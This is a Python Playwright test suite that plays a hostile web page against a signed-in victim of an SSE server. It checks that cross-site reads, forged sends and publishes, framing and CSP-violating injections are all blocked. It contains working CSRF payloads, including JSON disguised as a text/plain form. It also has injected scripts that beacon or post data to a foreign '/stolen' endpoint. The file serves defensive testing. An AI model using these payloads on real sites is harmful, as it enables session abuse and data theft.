"""Attack: a page on the web that a signed-in user visits; it reads, sends, ends and frames what is not its own.

The user's cookie is the weakest there is, `SameSite=None`, so that nothing but the server stands between.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Frame
from playwright.sync_api import Error as PlaywrightError

from browser_support import Server, Tab, open_browser, run_server
from foreign_support import (
    BEACON,
    ELEMENT,
    FETCH,
    FORM,
    FRAME,
    PAGES,
    SOURCE,
    Attempt,
    Foreign,
    another_port,
    foreign_server,
)

SESSION = "the-victims-session"
CONNECT = f"/sse/connect/{SESSION}"
SEND = "/sse/send?userId=victim&message=forged"
JSON = {"Content-Type": "application/json"}
ITEM = json.dumps({"to": {"user": "victim"}, "data": "forged"})
DISGUISED = {ITEM[:-1] + ', "ttl": "': '"}'}
"""A message as the field of a form that is sent as plain text."""

Ways = dict[str, Attempt]

READING: Ways = {
    "fetch": Attempt(FETCH, CONNECT, ({"credentials": "include"},)),
    "fetch without credentials": Attempt(FETCH, CONNECT, ({"credentials": "omit"},)),
    "fetch without CORS": Attempt(FETCH, CONNECT, ({"credentials": "include", "mode": "no-cors"},)),
    "fetch with a guessed token": Attempt(FETCH, CONNECT, ({"headers": {"Authorization": "Bearer a.b.c"}},)),
    "EventSource": Attempt(SOURCE, CONNECT, (False,)),
    "EventSource with credentials": Attempt(SOURCE, CONNECT, (True,)),
    "image": Attempt(ELEMENT, CONNECT, ("img", "src", {})),
    "script": Attempt(ELEMENT, CONNECT, ("script", "src", {})),
    "style": Attempt(ELEMENT, CONNECT, ("link", "href", {"rel": "stylesheet"})),
    "frame": Attempt(ELEMENT, CONNECT, ("iframe", "src", {})),
    "metrics": Attempt(FETCH, "/metrics", ({},), admin=True),
    "metrics as a script": Attempt(ELEMENT, "/metrics", ("script", "src", {}), admin=True),
    "console's sessions": Attempt(FETCH, "/api/sessions", ({"credentials": "include"},), admin=True),
}
ACTING: Ways = {
    "send by image": Attempt(ELEMENT, SEND, ("img", "src", {})),
    "send by form": Attempt(FORM, "/sse/send", ("get", "", {"userId": "victim", "message": "forged"})),
    "send by fetch": Attempt(FETCH, SEND, ({"credentials": "include"},)),
    "send by fetch without CORS": Attempt(FETCH, SEND, ({"credentials": "include", "mode": "no-cors"},)),
    "publish by form": Attempt(FORM, "/sse/publish", ("post", "text/plain", DISGUISED)),
    "publish by fetch": Attempt(FETCH, "/sse/publish", ({"method": "POST", "body": ITEM, "mode": "no-cors"},)),
    "publish by beacon": Attempt(BEACON, "/sse/publish", (ITEM,)),
    "disconnect": Attempt(FETCH, f"/sse/disconnect/{SESSION}", ({"method": "DELETE", "credentials": "include"},)),
    "refresh by form": Attempt(FORM, f"/sse/sessions/{SESSION}/refresh", ("post", "text/plain", {})),
    "demo's session by form": Attempt(FORM, "/demo/session", ("post", "text/plain", {'{"name": "': '"}'})),
    "demo's session by fetch": Attempt(FETCH, "/demo/session", ({"method": "POST", "body": '{"name": "a"}'},)),
    "demo's session by JSON": Attempt(
        FETCH, "/demo/session", ({"method": "POST", "body": '{"name": "a"}', "headers": JSON},)
    ),
    "drain by form": Attempt(FORM, "/api/drain", ("post", "text/plain", {}), admin=True),
    "drain by beacon": Attempt(BEACON, "/api/drain", ("",), admin=True),
}
WAYS = READING | ACTING


def places() -> Iterator[Any]:
    """Give the kinds of pages, but for the first two to `make abuse` alone."""
    for number, place in enumerate(PAGES):
        yield pytest.param(place, marks=[pytest.mark.abuse] * (number > 1))


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def foreign() -> Iterator[Foreign]:
    with foreign_server() as foreign:
        yield foreign


@pytest.fixture(
    scope="module",
    params=["--allowed-origins=https://app.example.com", pytest.param("--retry=1", marks=pytest.mark.abuse)],
    ids=["with an app", "alone"],
)
def server(request: pytest.FixtureRequest) -> Iterator[Server]:
    """Answers pages of an application, for which CORS is spoken, or its own alone."""
    with run_server(request.param) as server:
        yield server


@pytest.fixture(scope="module")
def context(browser: Browser, server: Server) -> Iterator[BrowserContext]:
    """The browser of somebody who is signed in."""
    with browser.new_context() as context:
        cookie = {"name": "__Host-sse", "value": server.token("victim", ["subscribe", "publish", "admin"])}
        place = {"url": server.url.replace("http:", "https:"), "secure": True, "sameSite": "None"}
        context.add_cookies([cookie | place])  # type: ignore[list-item]  # its fields are those of a cookie
        yield context


@pytest.fixture(scope="module")
def victim(context: BrowserContext, server: Server) -> Tab:
    """Their own page, with a stream."""
    tab = Tab(context.new_page())
    tab.page.goto(f"{server.url}/healthz")
    tab.listen(f"{server.url}{CONNECT}")
    tab.until("tab.opened === 1")
    return tab


@pytest.fixture(scope="module", params=places(), ids=lambda place: place.__name__.replace("_", " "))
def page(
    request: pytest.FixtureRequest, context: BrowserContext, foreign: Foreign, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Frame]:
    """The page that attacks."""
    with context.new_page() as page:
        yield request.param(page, foreign, tmp_path_factory.mktemp("page"))


def done(server: Server) -> dict[str, float]:
    """Tell what was done on the server."""
    figures = ("streams_opened_total", "open_streams", "draining", 'messages_published_total{result="accepted"}')
    return {name: server.metric(f"tornado_sse_{name}") for name in figures}


@pytest.mark.parametrize("way", WAYS)
def test_a_foreign_page_gets_nothing_and_does_nothing(way: str, page: Frame, server: Server, victim: Tab) -> None:
    attempt = WAYS[way]
    url = (server.admin_url if attempt.admin else server.url) + attempt.path
    before = done(server)
    with page.page.expect_request(lambda request: request.url.startswith(url)):
        got = page.evaluate(attempt.script, [url, *attempt.more])
    assert got == ""
    assert done(server) == before
    assert victim.ready_state() == 1


@pytest.mark.parametrize("name", ["demo", "console"])
@pytest.mark.parametrize("element", [("iframe", "src"), ("object", "data"), ("embed", "src")], ids=lambda one: one[0])
def test_a_foreign_page_frames_nothing(element: tuple[str, str], name: str, page: Frame, server: Server) -> None:
    url = f"{server.admin_url if name == 'console' else server.url}/{name}"
    assert page.evaluate(FRAME, [url, *element]) == "settled"
    assert not [frame.url for frame in page.child_frames if shows_a_page(frame)]


def shows_a_page(frame: Frame) -> bool:
    try:
        return frame.locator("button, input").count() > 0
    except PlaywrightError:  # it was blocked, and is gone
        return False


def test_a_page_of_the_server_gets_all_that(victim: Tab, server: Server) -> None:
    """Otherwise the attempts above would prove nothing."""
    for way in ("fetch", "EventSource"):
        attempt = READING[way]
        assert victim.page.evaluate(attempt.script, [server.url + attempt.path, *attempt.more])
    attempt = ACTING["demo's session by JSON"]
    assert "sessionId" in victim.page.evaluate(attempt.script, [server.url + attempt.path, *attempt.more])


def test_the_cookie_goes_along_from_another_port(context: BrowserContext, foreign: Foreign, tmp_path: Path) -> None:
    """It is the host's, whatever the port, so that the foreign server is sent what ours is."""
    with context.new_page() as page:
        attacker = another_port(page, foreign, tmp_path)
        attacker.evaluate(FETCH, [f"{foreign.url('127.0.0.1')}/cookie", {"credentials": "include"}])
    assert [cookie[:11] for path, cookie in foreign.asked if path == "/cookie"] == ["__Host-sse="]


INJECTED: dict[str, str] = {
    "script-src-elem": "const a = make('script'); a.textContent = 'pwned = 1'; add(a)",
    "script-src-elem (foreign)": "add(make('script', { src: foreign }))",
    "script-src-attr": "const a = make('button'); a.setAttribute('onclick', 'pwned = 1'); add(a); a.click()",
    "script-src-elem (javascript:)": "const a = make('a', { href: 'javascript:pwned=1' }); add(a); a.click()",
    "style-src-elem": "const a = make('style'); a.textContent = 'body { display: none }'; add(a)",
    "style-src-elem (foreign)": "add(make('link', { rel: 'stylesheet', href: foreign }))",
    "img-src": "add(make('img', { src: foreign }))",
    "connect-src": "fetch(foreign).catch(() => {})",
    "connect-src (beacon)": "navigator.sendBeacon(foreign, 'secret')",
    "connect-src (EventSource)": "new EventSource(foreign)",
    "frame-src": "add(make('iframe', { src: foreign }))",
    "object-src": "add(make('object', { data: foreign }))",
    "font-src": "new FontFace('f', `url(${foreign})`).load().catch(() => {})",
    "media-src": "add(make('video', { src: foreign }))",
    "base-uri": "document.head.append(make('base', { href: foreign }))",
    "form-action": "const a = make('form', { action: foreign, method: 'post' }); add(a); a.submit()",
    "worker-src": "new Worker(URL.createObjectURL(new Blob(['pwned = 1'])))",
}
"""What somebody who got some HTML into a page would do, by the directive that forbids it."""

INJECT = """(foreign) => new Promise((resolve) => {
    const make = (name, more = {}) => Object.assign(document.createElement(name), more);
    const add = (element) => document.body.append(element);
    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve("nothing"), 5000);
    CODE;
})"""


@pytest.mark.parametrize("name", ["demo", "console"])
def test_what_is_injected_into_a_page_does_nothing(
    name: str, server: Server, context: BrowserContext, foreign: Foreign
) -> None:
    foreign.asked.clear()
    with context.new_page() as page:
        for what, code in INJECTED.items():
            page.goto(f"{server.admin_url if name == 'console' else server.url}/{name}")
            directive = page.evaluate(INJECT.replace("CODE", code), foreign.url("localhost") + "/stolen")
            assert directive == what.partition(" ")[0]
            assert page.evaluate("globalThis.pwned") is None
    assert "/stolen" not in [path for path, _ in foreign.asked]
